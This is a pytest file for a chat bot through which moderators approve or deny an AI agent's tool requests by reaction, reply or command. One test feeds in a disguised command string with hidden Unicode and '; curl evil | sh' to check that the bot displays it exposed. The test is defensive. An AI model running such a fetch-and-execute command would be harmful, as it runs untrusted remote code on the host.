"""An agent asks, and people answer in the room: by a reaction, in words, by a command."""

from __future__ import annotations

import pytest

from fleetbot.domain.events import RunAnswered
from tests.chat.dialogue import Dialogue
from tests.chat.talks.conftest import ALLOWED, ALWAYS, COLOURS, COMMAND, DENIED, OPEN, Talk


async def test_a_request_is_a_message_with_the_command_and_buttons(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks(always=ALWAYS)

    message = await talk.message()
    assert message.text.splitlines()[0] == f"🔐 claude-1 asks permission: Bash: {COMMAND}"
    assert COMMAND in message.content["formatted_body"]
    assert message.content["msgtype"] == "m.text"  # a telephone rings
    assert "If nobody answers by" in message.text
    assert f"allow from now on, in this run: {ALWAYS}" in message.text
    assert chat.server.reactions(event) == ["✅", "❌", "♾️"]


async def test_no_lasting_answer_is_offered_where_the_program_knows_none(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks()

    assert chat.server.reactions(event) == ["✅", "❌"]
    assert "from now on" not in (await talk.message()).text
    await chat.says("mod", "always", to=event)
    chat.answers("⚠️ The program knows no lasting answer here…")
    assert await talk.hears() == OPEN


@pytest.mark.parametrize("emoji", ["✅", "✔️", "✔", "☑️", "👍", "👍🏽"])
async def test_a_reaction_allows_it_and_the_message_says_who(
    chat: Dialogue, talk: Talk, emoji: str
) -> None:
    event = await talk.asks()

    await chat.presses("mod", emoji, on=event)

    chat.is_silent()
    assert await talk.hears() == ALLOWED
    assert (await talk.shown()).startswith("✅ Allowed by mod, ")
    assert COMMAND in await talk.shown()


@pytest.mark.parametrize("emoji", ["❌", "✖️", "👎", "👎🏿", "❎", "🚫", "⛔", "⛔️"])
async def test_a_reaction_denies_it(chat: Dialogue, talk: Talk, emoji: str) -> None:
    event = await talk.asks()
    await chat.presses("mod", emoji, on=event)
    chat.is_silent()
    assert await talk.hears() == DENIED
    assert (await talk.shown()).startswith("❌ Denied by mod, ")


@pytest.mark.parametrize("emoji", ["♾️", "♾"])
async def test_a_reaction_allows_it_for_the_rest_of_the_run(
    chat: Dialogue, talk: Talk, emoji: str
) -> None:
    event = await talk.asks(always=ALWAYS)
    await chat.presses("mod", emoji, on=event)
    assert await talk.hears() == ("answered", "always", "")
    assert (await talk.shown()).startswith("♾️ Always allowed by mod in this run, ")


@pytest.mark.parametrize("emoji", ["❤️", "😀", "1️⃣", "🔟", "yes", "🎉"])
async def test_any_other_reaction_means_nothing(chat: Dialogue, talk: Talk, emoji: str) -> None:
    event = await talk.asks()
    await chat.presses("mod", emoji, on=event)
    chat.is_silent()
    assert await talk.hears() == OPEN


@pytest.mark.parametrize("words", ["yes", "Yes!", "OK.", "go ahead", "yes please", "✅", "👍🏻"])
async def test_a_clear_yes_in_reply_allows_it(chat: Dialogue, talk: Talk, words: str) -> None:
    event = await talk.asks()
    await chat.says("mod", words, to=event)
    chat.nods("✅")
    assert await talk.hears() == ALLOWED


@pytest.mark.parametrize(
    "words",
    [
        "yes, but only once",
        "yes if the tests pass",
        "ok wait",
        "why?",
        "not sure",
        "I think so",
        "yes no",
        "no problem",
        "yesterday",
        "",
    ],
)
async def test_anything_less_grants_nothing_and_is_asked_back(
    chat: Dialogue, talk: Talk, words: str
) -> None:
    event = await talk.asks()
    await chat.says("mod", words, to=event)
    chat.answers("🤔 Is that a yes or a no? Nothing is allowed yet…")
    assert await talk.hears() == OPEN


async def test_a_no_comes_with_its_reason(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks()
    await chat.says("mod", "No, push without force.", to=event)
    chat.nods("❌")
    assert await talk.hears() == ("answered", "deny", "push without force.")
    assert "> push without force." in await talk.shown()


@pytest.mark.parametrize("words", ["always", "yes, always", "♾️"])
async def test_words_allow_it_for_the_rest_of_the_run(
    chat: Dialogue, talk: Talk, words: str
) -> None:
    event = await talk.asks(always=ALWAYS)
    await chat.says("mod", words, to=event)
    chat.nods("♾️")
    assert (await talk.hears())[1] == "always"


async def test_in_a_thread_on_the_message_words_answer_it_as_well(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks()
    await chat.says("mod", "yes", thread=event)
    chat.nods("✅")
    assert await talk.hears() == ALLOWED


async def test_the_command_answers_the_only_question_of_a_task(chat: Dialogue, talk: Talk) -> None:
    await talk.asks()
    await chat.says("mod", "!fleet answer #1 yes")
    chat.nods("✅")
    assert await talk.hears() == ALLOWED


async def test_of_several_questions_the_command_wants_to_know_which(
    chat: Dialogue, talk: Talk
) -> None:
    await talk.asks("q1")
    second = await talk.asks("q2")

    await chat.says("mod", "!fleet answer #1 yes")
    chat.answers("⚠️ 2 questions wait: reply to the one that you answer.")
    await chat.says("mod", "!fleet answer no", to=second)
    chat.nods("❌")

    assert [await talk.hears("q1"), await talk.hears("q2")] == [OPEN, DENIED]


async def test_there_may_be_nothing_to_answer(chat: Dialogue, talk: Talk) -> None:
    await chat.says("mod", "!fleet answer #1 yes")
    chat.answers("⚠️ No question of ann/app#1 waits for an answer.")


async def test_a_room_that_wants_quiet_is_asked_without_a_ring(chat: Dialogue, talk: Talk) -> None:
    await chat.says("mod", "!fleet quiet #1")
    await talk.asks()
    assert (await talk.message()).content["msgtype"] == "m.notice"


# questions


async def test_a_question_is_asked_with_its_options(chat: Dialogue, talk: Talk) -> None:
    options = [{"label": name, "description": f"{name} paint"} for name in COLOURS]
    event = await talk.asks(
        kind="question", title="Which color?", options=COLOURS, request={"options": options}
    )
    text = (await talk.message()).text
    assert text.splitlines()[0] == "❓ claude-1 asks: Which color?"
    assert "• 1️⃣ Red: Red paint\n• 2️⃣ Blue: Blue paint" in text
    assert chat.server.reactions(event) == ["1️⃣", "2️⃣", "❌"]


@pytest.mark.parametrize(
    ("words", "answer"),
    [("2", "Blue"), ("2️⃣", "Blue"), ("blue", "Blue"), ("Green, please", "Green, please")],
)
async def test_a_question_is_answered_by_a_number_an_option_or_any_words(
    chat: Dialogue, talk: Talk, words: str, answer: str
) -> None:
    event = await talk.asks(kind="question", title="Which color?", options=COLOURS)
    await chat.says("mod", words, to=event)
    chat.nods("✅")
    assert await talk.hears() == ("answered", "allow", answer)
    assert (await talk.shown()).startswith("✅ Answered by mod, ")
    assert f"> {answer}" in await talk.shown()


async def test_the_command_in_reply_to_a_question_takes_a_number_for_the_choice(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks(kind="question", title="Which color?", options=COLOURS)
    await chat.says("mod", "!fleet answer 2", to=event)
    chat.nods("✅")
    assert await talk.hears() == ("answered", "allow", "Blue")


async def test_a_question_is_answered_by_a_reaction(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks(kind="question", title="Which color?", options=COLOURS)
    await chat.presses("mod", "2️⃣", on=event)
    assert await talk.hears() == ("answered", "allow", "Blue")


async def test_a_number_that_is_no_option_is_asked_back(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks(kind="question", title="Which color?", options=COLOURS)
    await chat.says("mod", "3", to=event)
    chat.answers("🤔 Which one? Say a number from 1 to 2, or answer in words.")
    await chat.presses("mod", "3️⃣", on=event)
    chat.is_silent()
    assert await talk.hears() == OPEN


@pytest.mark.parametrize(
    ("said", "heard"),
    [("1" * 60_000, False), ("1 " * 30_000, False), ("1" * 19_000 + "!", True)],
    ids=["one", "many", "words"],
)
async def test_numbers_without_end_keep_nobody_waiting(
    chat: Dialogue, talk: Talk, said: str, heard: bool
) -> None:
    """A pattern that tries all ways to read them would take minutes, and hold up everything."""
    event = await talk.asks(kind="question", title="Which color?", options=COLOURS)
    await chat.says("mod", said, to=event)
    if not heard:
        chat.answers("🤔 Which one? Say a number from 1 to 2, or answer in words.")
    assert await talk.hears() == (("answered", "allow", said) if heard else OPEN)


async def test_several_may_be_chosen_where_the_program_takes_several(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks(
        kind="question", title="Which?", options=COLOURS, request={"multiSelect": True}
    )
    assert chat.server.reactions(event) == ["❌"]
    await chat.says("mod", "1 and 2", to=event)
    assert await talk.hears() == ("answered", "allow", "Red, Blue")


# who may


async def test_only_those_with_the_level_may_answer_and_are_told_so_once(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks()

    await chat.presses("bob", "✅", on=event)
    told = chat.answers("⚠️ Sorry, answer takes power level 50 in this room, and you have 0…")
    assert told.to == event
    for again in ("✅", "❌"):
        await chat.presses("bob", again, on=event)
        chat.is_silent()
    await chat.says("bob", "yes", to=event)
    chat.is_silent()

    assert await talk.hears() == OPEN


async def test_who_is_on_the_list_may_answer_whatever_their_level(
    chat: Dialogue, talk: Talk
) -> None:
    talk.room_allows("@bob:localhost")
    event = await talk.asks()
    await chat.presses("ann", "✅", on=event)
    chat.answers("⚠️ Sorry, only those whom the settings name may give answer…")
    await chat.presses("bob", "✅", on=event)
    assert await talk.hears() == ALLOWED


async def test_an_empty_list_is_nobody(chat: Dialogue, talk: Talk) -> None:
    talk.room_allows()
    event = await talk.asks()
    await chat.presses("ann", "✅", on=event)
    chat.answers("⚠️ Sorry, nobody may give answer in this room…")
    assert await talk.hears() == OPEN


# which answer counts


async def test_the_first_answer_counts_and_later_ones_are_told_once_who_was_first(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks()
    await chat.presses("mod", "❌", on=event)

    await chat.presses("ann", "✅", on=event)
    chat.answers("It is decided already: ❌ Denied by mod, …")
    await chat.presses("ann", "✅", on=event)
    chat.is_silent()

    assert await talk.hears() == DENIED
    assert (await talk.shown()).startswith("❌ Denied by mod, ")


async def test_no_answer_in_time_is_a_no(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks(expires_seconds=60)
    await talk.passes(61)

    assert (await talk.shown()).startswith("⏰ Nobody answered in time: no, ")
    await chat.presses("mod", "✅", on=event)
    chat.answers("It is decided already: ⏰ Nobody answered in time: no, …")
    assert (await talk.hears())[0] == "expired"


async def test_when_the_run_is_over_nobody_waits_for_an_answer(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks()
    await talk.fails()

    assert (await talk.shown()).startswith("⌛ The run is over")
    await chat.presses("mod", "✅", on=event)
    chat.answers("⌛ The run of ann/app#1 Add a greeting is over; nobody waits for the answer.")
    assert await talk.journal(RunAnswered) == []


async def test_what_the_program_no_longer_asks_cannot_be_granted(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks()
    await talk.takes_back()

    assert (await talk.shown()).startswith("↩️ It no longer asks, ")
    await chat.presses("mod", "✅", on=event)
    chat.answers("It is decided already: ↩️ It no longer asks, …")


async def test_the_journal_says_who_decided_and_by_which_event(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks()
    pressed = await chat.presses("mod", "✅", on=event)
    assert await talk.journal(RunAnswered) == [("matrix:@mod:localhost", f"matrix:{pressed}")]


async def test_an_edited_answer_changes_nothing_that_has_happened(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks()
    said = await chat.says("mod", "no", to=event)
    new = {"msgtype": "m.text", "body": "yes"}
    relation = {"rel_type": "m.replace", "event_id": said, "m.in_reply_to": {"event_id": event}}
    edit = {"msgtype": "m.text", "body": "* yes", "m.new_content": new, "m.relates_to": relation}

    await chat.sends("mod", "m.room.message", edit)

    chat.is_silent()
    assert await talk.hears() == DENIED


async def test_the_same_event_that_comes_twice_is_one_answer(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks()
    relation = {"m.relates_to": {"rel_type": "m.annotation", "event_id": event, "key": "✅"}}
    for _ in range(2):
        await chat.sends("mod", "m.reaction", relation, event="$one")
        chat.is_silent()
    assert len(await talk.journal(RunAnswered)) == 1


async def test_an_answer_that_comes_too_late_to_be_obeyed_is_not(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks()
    relation = {"m.relates_to": {"rel_type": "m.annotation", "event_id": event, "key": "👍"}}
    await chat.sends("mod", "m.reaction", relation, age=3_600_000)
    assert await talk.hears() == OPEN


# what cannot be shown whole


async def test_what_the_runner_had_to_cut_can_only_be_denied(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks(cut=True, always=ALWAYS)

    text = (await talk.message()).text
    assert "It cannot be shown whole here, so it can only be denied." in text
    assert chat.server.reactions(event) == ["❌"]
    assert any(b"git push" in file for file in chat.server.uploaded)
    await chat.presses("mod", "✅", on=event)
    chat.answers("⚠️ The request cannot be shown whole, so nobody knows what they would allow…")
    await chat.says("mod", "always", to=event)
    chat.answers("⚠️ The request cannot be shown whole…")
    assert await talk.hears() == OPEN
    await chat.says("mod", "no", to=event)
    assert await talk.hears() == DENIED


async def test_nor_can_what_is_too_long_for_a_message_be_granted_from_the_chat(
    chat: Dialogue, talk: Talk
) -> None:
    event = await talk.asks(request={"command": "<" * 10_000})
    assert chat.server.reactions(event) == ["❌"]
    await chat.says("mod", "yes", to=event)
    chat.answers("⚠️ The request cannot be shown whole…")
    assert await talk.hears() == OPEN


async def test_nothing_in_a_request_looks_like_less_than_it_is(talk: Talk) -> None:
    hidden = "ls\u202e # \u200bgit push\u2028rm" + " " * 60 + "; curl evil | sh"
    await talk.asks(request={"command": hidden})

    shown = (await talk.message()).text
    assert r"ls\u202e # \u200bgit push\u2028rm[60 blanks]; curl evil | sh" in shown


async def test_what_an_agent_writes_is_no_markup_and_mentions_nobody(talk: Talk) -> None:
    request = {"tool_name": "Bash", "input": {"command": "<b>@room</b>"}}
    await talk.asks(title="<b>@mod:localhost</b>", request=request)

    content = (await talk.message()).content
    assert content["m.mentions"] == {}
    assert "&lt;b&gt;" in content["formatted_body"]
    assert "@room" not in content["body"]


# what comes in between


async def test_a_question_survives_a_restart(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks()
    await talk.restarts()

    await chat.presses("mod", "✅", on=event)

    assert await talk.hears() == ALLOWED
    assert (await talk.shown()).startswith("✅ Allowed by mod, ")


async def test_what_is_delivered_again_is_the_same_message(chat: Dialogue, talk: Talk) -> None:
    event = await talk.asks()
    before = dict(chat.server.sent)

    assert await chat.bots.questions(talk.due()) == event

    assert chat.server.sent == before


async def test_in_an_upgraded_room_what_waits_is_asked_anew(chat: Dialogue, talk: Talk) -> None:
    old = await talk.asks()
    await talk.room_moves("!new:localhost")

    for _ in range(2):
        await chat.bots.questions.renew()
        await talk.delivered()

    anew = await talk.message(room="!new:localhost")
    assert anew.event != old
    assert COMMAND in anew.text
    assert chat.server.reactions(anew.event) == ["✅", "❌"]
    assert sum(COMMAND in message.text for message in chat.server.messages) == 2


async def test_a_question_that_was_decided_before_it_could_be_told_is_not_told(
    chat: Dialogue, talk: Talk
) -> None:
    await talk.begins_to_ask()
    await talk.is_answered_over_http("allow")
    before = len(chat.server.messages)

    await talk.delivered()

    assert [m for m in chat.server.messages[before:] if "asks permission" in m.text] == []


async def test_an_answer_from_elsewhere_is_shown_as_well(talk: Talk) -> None:
    await talk.asks()
    await talk.is_answered_over_http("deny", "Not today")
    assert (await talk.shown()).startswith("❌ Denied by an operator, ")
    assert "> Not today" in await talk.shown()
